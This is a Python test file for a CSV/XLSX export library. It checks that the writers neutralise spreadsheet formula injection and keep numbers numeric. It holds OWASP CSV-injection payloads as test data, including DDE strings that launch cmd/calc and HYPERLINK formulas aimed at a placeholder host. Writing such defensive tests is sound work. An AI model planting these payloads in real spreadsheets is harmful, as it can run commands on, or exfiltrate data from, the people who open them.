"""Spreadsheet-safe CSV and XLSX (issue 14, Deliver 5): no cell a spreadsheet reads as a formula,
numbers stay numbers. The payloads are OWASP's examples (https://owasp.org/www-community/attacks/CSV_Injection)
and the classic DDE one; the scanner is ``tests/spreadsheets.py`` (written apart from the code)."""

from __future__ import annotations

import csv

import numpy as np
import openpyxl
import pandas as pd
import pytest

from qa_lib.core import safe_files
from qa_lib.core.atomic import atomic_to_csv, atomic_to_xlsx
from qa_lib.core.errors import QAError
from spreadsheets import csv_formula, formula_cells

PAYLOADS = ['=HYPERLINK("http://x"&A2)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tTab", "\rCR",
            "=1+1", " =1+1", "-cmd", '=cmd|" /C calc"!A0,"x"']


def hostile_frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    frame = pd.DataFrame({
        "team": pd.array(PAYLOADS, dtype="string"),
        "note": np.array(PAYLOADS[::-1], dtype=object),
        "n": np.arange(n, dtype="int64") - 3,  # negative counts are numbers, not text
        "difference_share": np.linspace(-0.5, 0.4, n),
        "mixed": ["c", -3, "-c", 4.5, None, "=1", 2, "ok", -0.25, "+14 points"],
        "cohort": pd.Categorical(["@x", "y"] * (n // 2)),
        "flag": [True, False] * (n // 2),
    }, index=pd.Index([f"=A{k}" if k % 2 else f"row {k}" for k in range(n)], name="=name"))
    frame["count_na"] = pd.array([1, None] * (n // 2), dtype="Int64")
    return frame


def test_the_scanner_sees_what_plain_pandas_writes(tmp_path):
    """Control: the unprotected writer is flagged, so a clean scan below means something."""
    path = tmp_path / "plain.csv"
    hostile_frame().to_csv(path)
    assert len(formula_cells(path)) >= len(PAYLOADS)
    path = tmp_path / "plain.xlsx"
    hostile_frame().astype({"team": object, "count_na": object}).to_excel(path, engine="openpyxl")
    assert any(v.startswith("=") for _, v in formula_cells(path))


@pytest.mark.parametrize("text,flagged", [("=1", True), ("+1 555", True), ("-x", True), ("@a", True), ("\tx", True),
                                          ("\rx", True), (" =x", True), ("-0.5", False), ("+3", False), ("1e-05", False),
                                          ("'=x", False), ("a=b", False), ("−3 points", False)])
def test_the_scanner_follows_owasp(text, flagged):
    assert csv_formula(text) is flagged


def test_csv_has_no_formula_and_keeps_numbers(tmp_path):
    path = atomic_to_csv(hostile_frame(), tmp_path / "safe.csv")
    assert formula_cells(path) == []
    rows = list(csv.reader(open(path, newline="", encoding="utf-8-sig")))
    assert rows[0][0] == "'=name" and len(rows) == len(PAYLOADS) + 1
    # numbers are written as numbers (a spreadsheet reads "-3" and "-0.5" as numbers)
    assert [int(r[3]) for r in rows[1:]] == list(range(-3, len(PAYLOADS) - 3))
    assert float(rows[1][4]) == -0.5 and all(float(r[4]) < 0.5 for r in rows[1:])
    # each payload kept, behind the apostrophe (OWASP's "prepend a single quote"); plain text untouched
    teams = [r[1] for r in rows[1:]]
    assert teams == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    mixed = [r[5] for r in rows[1:]]
    assert mixed == ["c", "-3", "'-c", "4.5", "", "'=1", "2", "ok", "-0.25", "'+14 points"]
    assert rows[2][0] == "'=A1" and rows[1][0] == "row 0"
    assert [r[2] for r in rows[1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS[::-1]]


BOM = b"\xef\xbb\xbf"  # the UTF-8 byte-order mark (Unicode 15.0, section 23.8; RFC 3629 section 6)


def test_csv_is_utf8_with_a_bom_and_round_trips(tmp_path):
    """Issue 18: Excel on Windows reads a CSV without a BOM in the ANSI code page, so "–", "▲" and "·"
    come out garbled; with the BOM it reads UTF-8. Read back with utf-8-sig, the mark is gone."""
    frame = pd.DataFrame({"Measure": ["60% (53–68%)", "▲ up", "a · b", "Zoë"], "n": [1, 2, 3, 4]})
    path = atomic_to_csv(frame, tmp_path / "bom.csv", index=False)
    raw = path.read_bytes()
    assert raw.startswith(BOM) and not raw[3:].startswith(BOM)  # one mark, at the very start
    assert raw[3:].decode("utf-8").splitlines()[1] == "60% (53–68%),1"
    # a reader that knows no BOM (plain utf-8) would see U+FEFF glued to the first header: the control
    assert raw.decode("utf-8").startswith("\ufeffMeasure")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["Measure", "n"] and back["Measure"].tolist() == frame["Measure"].tolist()
    assert back["n"].tolist() == ["1", "2", "3", "4"]
    rows = list(csv.reader(open(path, newline="", encoding="utf-8-sig")))
    assert rows[0] == ["Measure", "n"] and rows[2] == ["▲ up", "2"]


def test_csv_refuses_another_encoding(tmp_path):
    with pytest.raises(QAError, match="utf-8-sig"):
        atomic_to_csv(pd.DataFrame({"a": [1]}), tmp_path / "x.csv", encoding="cp1252")
    assert not (tmp_path / "x.csv").exists()
    atomic_to_csv(pd.DataFrame({"a": [1]}), tmp_path / "y.csv", index=False, encoding="utf-8-sig")
    assert (tmp_path / "y.csv").read_bytes() == BOM + b"a\n1\n"


def test_a_carriage_return_inside_text_cannot_start_a_row(tmp_path):
    """A bare CR inside an unquoted cell ends the row in a spreadsheet; the next "row" would then
    begin with whatever follows it (RFC 4180 2.6: such a field must be quoted)."""
    frame = pd.DataFrame({"comment": ["fine\r=HYPERLINK(\"http://x\")", "a\r\n@SUM(1)"], "n": [1, 2]})
    path = atomic_to_csv(frame, tmp_path / "cr.csv", index=False, lineterminator="\n")
    rows = list(csv.reader(open(path, newline="", encoding="utf-8-sig")))
    assert len(rows) == 3 and [r[1] for r in rows[1:]] == ["1", "2"]
    assert formula_cells(path) == []


def test_restore_text_undoes_the_mark():
    for p in PAYLOADS:
        assert safe_files.restore_text(safe_files.neutralise(p)) == p
    assert safe_files.restore_text("'quoted") == "'quoted"


def test_header_names_from_the_data_are_neutralised(tmp_path):
    frame = pd.DataFrame([[1, 2]], columns=["=Outstanding", "Good"])  # grade names come from the params
    path = atomic_to_csv(frame, tmp_path / "h.csv", index=False)
    assert formula_cells(path) == [] and path.read_text(encoding="utf-8-sig").splitlines()[0] == "'=Outstanding,Good"


def test_xlsx_cells_are_values_never_formulas(tmp_path):
    frame = hostile_frame()
    path = atomic_to_xlsx({"table": frame}, tmp_path / "safe.xlsx")
    assert formula_cells(path) == []
    ws = openpyxl.load_workbook(path)["table"]
    header = [c.value for c in ws[1]]
    assert header[0] == "=name" and ws["A1"].quotePrefix  # exact text, marked as text
    col = {name: k for k, name in enumerate(header)}
    rows = list(ws.iter_rows(min_row=2))
    # the text as written, no apostrophe in the value (openpyxl's own XML reader reads a CR back as
    # LF; with lxml installed, as python-docx installs it, the CR is kept)
    assert [r[col["team"]].value.replace("\r", "\n") for r in rows] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(r[col["team"]].data_type == "s" and r[col["team"]].quotePrefix for r in rows)
    assert [r[col["n"]].value for r in rows] == list(range(-3, len(PAYLOADS) - 3))
    assert all(r[col["n"]].data_type == "n" and r[col["difference_share"]].data_type == "n" for r in rows)
    assert rows[1][col["mixed"]].value == -3 and rows[0][col["mixed"]].value == "c"
    assert [r[col["count_na"]].value for r in rows[:2]] == [1, None]
    assert rows[0][col["flag"]].value is True


def test_xlsx_sheets_without_index(tmp_path):
    filters = pd.DataFrame([("Selection A", "=HYPERLINK(1)")], columns=["setting", "value"])
    path = atomic_to_xlsx([("filters", filters, False)], tmp_path / "f.xlsx")
    ws = openpyxl.load_workbook(path)["filters"]
    assert [c.value for c in ws[1]] == ["setting", "value"] and ws["B2"].value == "=HYPERLINK(1)"
    assert formula_cells(path) == []


def test_every_spreadsheet_the_package_writes_goes_through_the_safe_writer():
    """No module writes CSV or XLSX itself: only qa_lib/core/atomic.py calls to_csv, and nothing calls
    to_excel, ExcelWriter or openpyxl's save (the committee XLSX is built with safe_files.put_cell and
    saved by core.atomic.atomic_save). The demo generator is the one exception: it writes the
    synthetic *input* exports (numbers as text, e.g. "-1.2"), which must stay as a council's system writes them."""
    from pathlib import Path

    package = Path(safe_files.__file__).resolve().parents[1]
    allowed = {"core/atomic.py": {".to_csv(", ".save("}, "running/demo.py": {".to_csv("}}
    found = []
    for path in sorted(package.rglob("*.py")):
        rel = path.relative_to(package).as_posix()
        source = path.read_text(encoding="utf-8")
        for call in (".to_csv(", ".to_excel(", "ExcelWriter(", ".save("):
            if call in source and call not in allowed.get(rel, set()):
                found.append(f"{rel}: {call}")
    assert not found, f"spreadsheets written outside qa_lib.core.atomic: {found}"
